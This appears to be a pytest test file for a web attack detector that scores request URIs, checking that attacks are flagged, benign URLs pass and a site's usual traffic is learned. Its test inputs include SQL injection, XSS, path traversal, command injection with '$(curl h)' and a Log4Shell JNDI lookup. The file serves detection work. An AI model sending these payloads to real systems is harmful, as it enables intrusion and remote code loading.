"""Requests are laid bare before they are judged, and the site's own look is learned."""

import numpy as np
import pytest

from detectors.played import START, played
from pipeline.detectors.logs.web_attack import WebAttack

WEB = {"kind": "web", "ts": START, "host": "www", "src_ip": "203.0.113.9", "status": 200}


def _scores(*uris: str, **more: object) -> np.ndarray:
    return played(WebAttack, [WEB | {"uri": u} | more for u in uris])


@pytest.mark.parametrize(
    "uri",
    [
        "/a?id=1+UNION+ALL+SELECT+1,2", "/a?id=1%2520union%2520select%25201", "/a?id=1/**/union/**/select/**/2",
        "/a?u=x'%20OR%20'7'='7", '/a?u=x")%20or%20("ab"="ab', "/a?q=%3CsCrIpT%3Ealert(1)", "/a?q=%u003cscript%u003e",
        "/..%2f..%2fetc/passwd", "/a?x=;cat%20/etc/group", "/a?x=%24%7Bjndi:ldap://h/a%7D", "/a?x=$(curl+h)",
        "/..%c0%af..%c0%afetc/hostname", "/%c0%ae%c0%ae%c1%9c%c0%ae%c0%ae%c1%9cx", "/..%c0%9v..%c0%9vx",
        "/a?x=%3C/div%3E",
    ],
)  # fmt: skip
def test_attacks(uri: str) -> None:
    assert _scores(uri)[0] >= 0.5


def test_ordinary_requests() -> None:
    ordinary = (
        "/", "/search?q=select+a+union+for+nurses", "/a?from=2015-01-01&order=by+date", "/x?n=O'Brien&e=a@example.org",
        "/a?u=https%3A%2F%2Fexample.org%2Fb%3Fc%3Dd", "/static/app.min.js?v=1.2.3", "/p?a=1&b=1=1", "/q?or=1&and=2",
    )  # fmt: skip
    assert (_scores(*ordinary) < 0.5).all()


def test_what_is_turned_away_counts_less() -> None:
    uri = "/a?f=../../etc/passwd"
    assert _scores(uri, status=404)[0] < 0.5 <= _scores(uri)[0]


def test_the_site_is_learned() -> None:
    usual = [WEB | {"uri": f"/s?name=nurse{i % 50}&day={i % 30}"} for i in range(400)]
    odd = WEB | {"uri": "/s?name=%7C%7C((%22%5B%5D~~%25%25%24%24!!&day=1"}
    scores = played(WebAttack, [*usual, odd])
    assert scores[-1] > 0.3 > scores[300:-1].max()
